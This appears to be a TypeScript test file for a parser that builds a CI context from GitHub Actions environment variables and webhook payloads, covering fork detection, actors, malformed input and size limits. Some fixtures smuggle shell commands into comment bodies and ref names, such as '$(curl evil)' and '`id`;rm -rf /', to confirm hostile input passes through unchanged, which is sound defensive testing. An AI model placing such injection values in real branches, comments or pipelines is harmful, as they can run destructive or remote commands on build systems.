import { fromGitHub, MAX_EVENT_BYTES } from '../../shared/context/github.js';
import { isFork, UNKNOWN_HEAD_REPOSITORY } from '../../shared/context/refs.js';
import { NOW, githubEnv, webhookExample, configError } from './fixtures.js';

type Payload = Record<string, any>;

function run(env: Record<string, string | undefined>, payload: unknown) {
  return fromGitHub(env, JSON.stringify(payload), NOW);
}


describe('fromGitHub with real @octokit/webhooks-examples payloads', () => {
  it('push to a branch: every documented variable lands in its field', () => {
    const payload = webhookExample('push');
    const branchPush = webhookExample('push') as Payload;
    Object.assign(branchPush, { ref: 'refs/heads/master' });
    expect(payload['ref']).toBe('refs/tags/simple-tag');
    const ctx = run(githubEnv({ GITHUB_REF: 'refs/heads/master', GITHUB_SHA: String(branchPush['after']), GITHUB_ACTION_REF: 'v1' }), branchPush);
    expect(ctx).toEqual({
      platform: 'github',
      event: 'push',
      ref: 'refs/heads/master',
      refType: 'branch',
      sha: '6113728f27ae82c7b1a177c8d03f9e96e0adf246',
      repository: 'Codertocat/Hello-World',
      actor: 'Codertocat',
      triggeringActor: 'Codertocat',
      commitAuthor: 'Codertocat',
      runner: { kind: 'hosted', name: 'GitHub Actions 2', os: 'Linux', arch: 'X64' },
      workflow: 'deploy',
      workflowRef: 'Codertocat/Hello-World/.github/workflows/deploy.yml@refs/heads/main',
      runId: '1589141559',
      runAttempt: '1',
      jobId: 'release',
      serverUrl: 'https://github.com',
      apiUrl: 'https://api.github.com',
      actionRef: 'v1',
      identitySource: 'env',
      time: '2026-03-04T05:06:07.000Z',
    });
    expect(isFork(ctx)).toBe(false);
  });

  it('push of a tag: a tag ref stays a tag, whatever GITHUB_REF_TYPE claims', () => {
    const payload = webhookExample('push');
    const ctx = run(githubEnv({ GITHUB_REF: 'refs/tags/simple-tag', GITHUB_REF_TYPE: 'branch' }), payload);
    expect(ctx.ref).toBe('refs/tags/simple-tag');
    expect(ctx.refType).toBe('tag');
  });

  it('push without head_commit (a deleted tag): no commit author', () => {
    const payload = webhookExample('push') as Payload;
    payload['head_commit'] = null;
    expect(run(githubEnv(), payload).commitAuthor).toBeUndefined();
  });

  it('pull_request opened from the same repository: head = base, not a fork', () => {
    const payload = webhookExample('pull_request', 'opened') as Payload;
    const ctx = run(githubEnv({ GITHUB_EVENT_NAME: 'pull_request', GITHUB_REF: 'refs/pull/2/merge', GITHUB_HEAD_REF: 'changes', GITHUB_BASE_REF: 'master' }), payload);
    expect(ctx).toMatchObject({
      event: 'pull_request',
      ref: 'refs/pull/2/merge',
      refType: 'pull',
      pullRequestNumber: 2,
      headRepository: 'Codertocat/Hello-World',
      baseRepository: 'Codertocat/Hello-World',
      headRef: 'refs/heads/changes',
      baseRef: 'refs/heads/master',
      headSha: 'ec26c3e57ca3a959ca5aad62de7213c562f8c821',
      prAuthor: 'Codertocat',
    });
    expect(isFork(ctx)).toBe(false);
  });

  it('pull_request_target runs on the base branch but still knows the head', () => {
    const payload = webhookExample('pull_request', 'opened') as Payload;
    payload['pull_request'].head.repo.full_name = 'mallory/Hello-World';
    const ctx = run(githubEnv({ GITHUB_EVENT_NAME: 'pull_request_target', GITHUB_REF: 'refs/heads/master' }), payload);
    expect(ctx).toMatchObject({ event: 'pull_request_target', ref: 'refs/heads/master', refType: 'branch', headRepository: 'mallory/Hello-World', baseRepository: 'Codertocat/Hello-World' });
    expect(isFork(ctx)).toBe(true);
  });

  it.each([
    ['fork by name, fork flag false', 'mallory/Hello-World', false, true],
    ['same name, fork flag true (the flag is never read)', 'Codertocat/Hello-World', true, false],
    ['fork whose name differs only in case', 'codertocat/hello-world', false, true],
  ])('fork detection: %s', (_name, headName, forkFlag, expected) => {
    const payload = webhookExample('pull_request', 'opened') as Payload;
    payload['pull_request'].head.repo.full_name = headName;
    payload['pull_request'].head.repo.fork = forkFlag;
    const ctx = run(githubEnv({ GITHUB_EVENT_NAME: 'pull_request', GITHUB_REF: 'refs/pull/2/merge' }), payload);
    expect(ctx.headRepository).toBe(headName);
    expect(isFork(ctx)).toBe(expected);
  });

  it.each([
    ['deleted (null)', null],
    ['missing', undefined],
    ['malformed (a string)', 'mallory/x'],
    ['full_name not a string', { full_name: 42 }],
  ])('a head repository that is %s counts as a fork', (_name, repo) => {
    const payload = webhookExample('pull_request', 'opened') as Payload;
    if (repo === undefined) delete payload['pull_request'].head.repo;
    else payload['pull_request'].head.repo = repo;
    const ctx = run(githubEnv({ GITHUB_EVENT_NAME: 'pull_request', GITHUB_REF: 'refs/pull/2/merge' }), payload);
    expect(ctx.headRepository).toBe(UNKNOWN_HEAD_REPOSITORY);
    expect(isFork(ctx)).toBe(true);
  });

  it('issue_comment by the owner on an issue: comment author, association and body, no PR number', () => {
    const payload = webhookExample('issue_comment', 'created');
    const ctx = run(githubEnv({ GITHUB_EVENT_NAME: 'issue_comment' }), payload);
    expect(ctx).toMatchObject({
      event: 'issue_comment',
      commentAuthor: 'Codertocat',
      commentAuthorAssociation: 'OWNER',
      commentBody: "You are totally right! I'll get this fixed right away.",
    });
    expect(ctx.pullRequestNumber).toBeUndefined();
  });

  it('issue_comment by an outsider on a pull request: the PR number and the outsider are both there', () => {
    const payload = webhookExample('issue_comment', 'created') as Payload;
    payload['comment'].user.login = 'mallory';
    payload['comment'].author_association = 'NONE';
    payload['comment'].body = '/deploy production $(curl evil)';
    payload['issue'].number = 7;
    payload['issue'].pull_request = { url: 'https://api.github.com/repos/Codertocat/Hello-World/pulls/7' };
    const ctx = run(githubEnv({ GITHUB_EVENT_NAME: 'issue_comment', GITHUB_ACTOR: 'mallory', GITHUB_TRIGGERING_ACTOR: 'mallory' }), payload);
    expect(ctx).toMatchObject({ commentAuthor: 'mallory', commentAuthorAssociation: 'NONE', pullRequestNumber: 7, commentBody: '/deploy production $(curl evil)', actor: 'mallory' });
  });

  it('workflow_run: upstream event, upstream head repository and head SHA', () => {
    const payload = webhookExample('workflow_run', 'completed');
    const ctx = run(githubEnv({ GITHUB_EVENT_NAME: 'workflow_run', GITHUB_REPOSITORY: 'octo-org/octo-repo' }), payload);
    expect(ctx).toMatchObject({ upstreamEvent: 'workflow_dispatch', upstreamHeadRepository: 'octo-org/octo-repo', headSha: '5779607b49aab1200488439f02372c57b4f75444' });
    expect(isFork(ctx)).toBe(false);
  });

  it.each([
    ['a fork', { full_name: 'mallory/octo-repo' }, 'mallory/octo-repo'],
    ['deleted', null, UNKNOWN_HEAD_REPOSITORY],
  ])('workflow_run from a pull request of %s is a fork', (_name, headRepo, expected) => {
    const payload = webhookExample('workflow_run', 'completed') as Payload;
    payload['workflow_run'].event = 'pull_request';
    payload['workflow_run'].head_repository = headRepo;
    const ctx = run(githubEnv({ GITHUB_EVENT_NAME: 'workflow_run', GITHUB_REPOSITORY: 'octo-org/octo-repo' }), payload);
    expect(ctx.upstreamEvent).toBe('pull_request');
    expect(ctx.upstreamHeadRepository).toBe(expected);
    expect(isFork(ctx)).toBe(true);
  });

  it('release: the tag ref from GITHUB_REF', () => {
    const payload = webhookExample('release', 'published');
    const ctx = run(githubEnv({ GITHUB_EVENT_NAME: 'release', GITHUB_REF: 'refs/tags/0.0.1' }), payload);
    expect(ctx).toMatchObject({ event: 'release', ref: 'refs/tags/0.0.1', refType: 'tag' });
    expect(ctx.headRepository).toBeUndefined();
  });

  it('workflow_dispatch: the dispatched ref, actor and triggering actor', () => {
    const payload = webhookExample('workflow_dispatch');
    const ctx = run(githubEnv({ GITHUB_EVENT_NAME: 'workflow_dispatch', GITHUB_REF: String(payload['ref']), GITHUB_TRIGGERING_ACTOR: 'octocat' }), payload);
    expect(ctx).toMatchObject({ event: 'workflow_dispatch', ref: 'refs/heads/main', refType: 'branch', actor: 'Codertocat', triggeringActor: 'octocat' });
  });

  it('merge_group: queue branch as head ref, base ref and head SHA', () => {
    const payload = webhookExample('merge_group', 'checks_requested') as Payload;
    const ctx = run(githubEnv({ GITHUB_EVENT_NAME: 'merge_group', GITHUB_REF: payload['merge_group'].head_ref }), payload);
    expect(ctx).toMatchObject({
      event: 'merge_group',
      ref: 'refs/heads/gh-readonly-queue/main/pr-104-929f8209d40f77f4abc622a499c93a83babdbe64',
      headRef: 'refs/heads/gh-readonly-queue/main/pr-104-929f8209d40f77f4abc622a499c93a83babdbe64',
      baseRef: 'refs/heads/main',
      headSha: '2ffea6db159f6b6c47a24e778fb9ef40cf6b1c7d',
    });
  });

  it('schedule: the default branch and the cron payload', () => {
    const ctx = run(githubEnv({ GITHUB_EVENT_NAME: 'schedule', GITHUB_ACTOR: 'Codertocat' }), { schedule: '17 3 * * *' });
    expect(ctx).toMatchObject({ event: 'schedule', ref: 'refs/heads/main', actor: 'Codertocat' });
  });
});

describe('fromGitHub identities and runner', () => {
  it('Dependabot confusion: actor and triggering actor are kept apart', () => {
    const ctx = run(githubEnv({ GITHUB_ACTOR: 'dependabot[bot]', GITHUB_TRIGGERING_ACTOR: 'mallory' }), {});
    expect([ctx.actor, ctx.triggeringActor]).toEqual(['dependabot[bot]', 'mallory']);
  });

  it('an older runner without GITHUB_TRIGGERING_ACTOR: the actor triggered it', () => {
    expect(run(githubEnv({ GITHUB_TRIGGERING_ACTOR: undefined }), {}).triggeringActor).toBe('Codertocat');
  });

  it.each([
    ['github-hosted', 'hosted'],
    ['self-hosted', 'self-hosted'],
    ['Self-Hosted', 'unknown'],
    [undefined, 'unknown'],
  ])('RUNNER_ENVIRONMENT=%s → runner kind %s', (value, kind) => {
    expect(run(githubEnv({ RUNNER_ENVIRONMENT: value }), {}).runner.kind).toBe(kind);
  });

  it('GITHUB_HEAD_REF/GITHUB_BASE_REF fill in when the payload has no pull_request', () => {
    const ctx = run(githubEnv({ GITHUB_HEAD_REF: 'feature', GITHUB_BASE_REF: 'main' }), {});
    expect([ctx.headRef, ctx.baseRef]).toEqual(['refs/heads/feature', 'refs/heads/main']);
  });
});

describe('fromGitHub bad input', () => {
  it.each(['GITHUB_EVENT_NAME', 'GITHUB_REPOSITORY', 'GITHUB_REF', 'GITHUB_SHA'])('missing %s → ConfigError naming it', (name) => {
    for (const value of [undefined, '']) {
      const err = configError(() => run(githubEnv({ [name]: value }), {}));
      expect(err.message).toContain(name);
    }
  });

  it('a GITHUB_REF that is not a full ref is refused, not completed', () => {
    const err = configError(() => run(githubEnv({ GITHUB_REF: 'main' }), {}));
    expect(err.message).toContain('GITHUB_REF');
    expect(err.message).toContain('"main"');
  });

  it('no event payload (GITHUB_EVENT_PATH unset) → ConfigError naming GITHUB_EVENT_PATH', () => {
    const err = configError(() => fromGitHub(githubEnv(), undefined, NOW));
    expect(err.message).toContain('GITHUB_EVENT_PATH');
  });

  it('event text that is not JSON → ConfigError naming GITHUB_EVENT_PATH, never quoting the text', () => {
    const err = configError(() => fromGitHub(githubEnv(), 'token=hunter2 {not json', NOW));
    expect(err.message).toMatch(/^the event payload at GITHUB_EVENT_PATH is not JSON/);
    expect(err.message).not.toContain('hunter2');
  });

  it.each([
    ['[]', 'an array'],
    ['[{"pull_request": {}}]', 'an array'],
    ['null', 'null'],
    ['42', 'a number'],
    ['"push"', 'a string'],
    ['true', 'a boolean'],
  ])('event text %s → "%s, not a JSON object"', (textValue, kind) => {
    const err = configError(() => fromGitHub(githubEnv(), textValue, NOW));
    expect(err.message).toBe(`the event payload at GITHUB_EVENT_PATH is ${kind}, not a JSON object`);
  });

  it('an event payload just over 25 MiB is refused; one of exactly 25 MiB is read', () => {
    const wrap = (n: number) => `{"pad":"${'a'.repeat(n - 10)}"}`;
    expect(wrap(MAX_EVENT_BYTES).length).toBe(MAX_EVENT_BYTES);
    expect(fromGitHub(githubEnv(), wrap(MAX_EVENT_BYTES), NOW).event).toBe('push');
    const err = configError(() => fromGitHub(githubEnv(), wrap(MAX_EVENT_BYTES + 1), NOW));
    expect(err.message).toContain('GITHUB_EVENT_PATH');
    expect(err.message).toContain('more than 26214400 bytes');
  });

  it('the limit counts UTF-8 bytes, not characters', () => {
    const half = MAX_EVENT_BYTES / 2;
    const textValue = `{"p":"${'é'.repeat(half)}"}`;
    expect(textValue.length).toBeLessThan(MAX_EVENT_BYTES);
    const err = configError(() => fromGitHub(githubEnv(), textValue, NOW));
    expect(err.message).toContain(`${MAX_EVENT_BYTES + 8} bytes`);
  });

  it.each(['pull_request', 'pull_request_target', 'issue_comment', 'workflow_run'])('a %s event whose payload lacks its object → ConfigError', (event) => {
    const err = configError(() => run(githubEnv({ GITHUB_EVENT_NAME: event }), { action: 'opened' }));
    expect(err.message).toContain('GITHUB_EVENT_PATH');
  });

  it('deeply nested JSON is read without a stack overflow', () => {
    const n = 200_000;
    const textValue = `{"a":${'['.repeat(n)}${']'.repeat(n)}}`;
    expect(fromGitHub(githubEnv(), textValue, NOW).ref).toBe('refs/heads/main');
  });

  it('payload keys named __proto__ or constructor change nothing', () => {
    const ctx = fromGitHub(githubEnv({ GITHUB_EVENT_NAME: 'push' }), '{"__proto__": {"head_commit": {"author": {"username": "mallory"}}}, "constructor": 1}', NOW);
    expect(ctx.commitAuthor).toBeUndefined();
    expect(({} as Record<string, unknown>)['head_commit']).toBeUndefined();
  });
});

describe('fromGitHub carries hostile refs byte for byte and never throws on them', () => {
  const cases: [string, string][] = [
    ['command substitution', 'refs/heads/$(curl evil)'],
    ['backticks and semicolons', 'refs/heads/`id`;rm -rf /'],
    ['Cyrillic homoglyph а (U+0430) in "main"', 'refs/heads/m\u0430in'],
    ['control characters and an ANSI escape', 'refs/heads/x\u0000\u0007\u001b[31mred\r\n'],
    ['right-to-left override', 'refs/tags/v1\u202e2.0'],
    ['lone surrogate', 'refs/heads/\ud800'],
  ];

  it.each(cases)('GITHUB_REF with %s', (_name, ref) => {
    const ctx = run(githubEnv({ GITHUB_REF: ref }), {});
    expect(ctx.ref).toBe(ref);
    expect(Buffer.from(ctx.ref, 'utf16le').equals(Buffer.from(ref, 'utf16le'))).toBe(true);
    expect(ctx.ref === 'refs/heads/main').toBe(false);
  });

  it.each(cases)('pull request head branch with %s', (_name, ref) => {
    const branch = ref.replace(/^refs\/(heads|tags)\//, '');
    const payload = webhookExample('pull_request', 'opened') as Payload;
    payload['pull_request'].head.ref = branch;
    const ctx = run(githubEnv({ GITHUB_EVENT_NAME: 'pull_request', GITHUB_REF: 'refs/pull/2/merge', GITHUB_HEAD_REF: branch }), payload);
    expect(ctx.headRef).toBe(`refs/heads/${branch}`);
  });
});
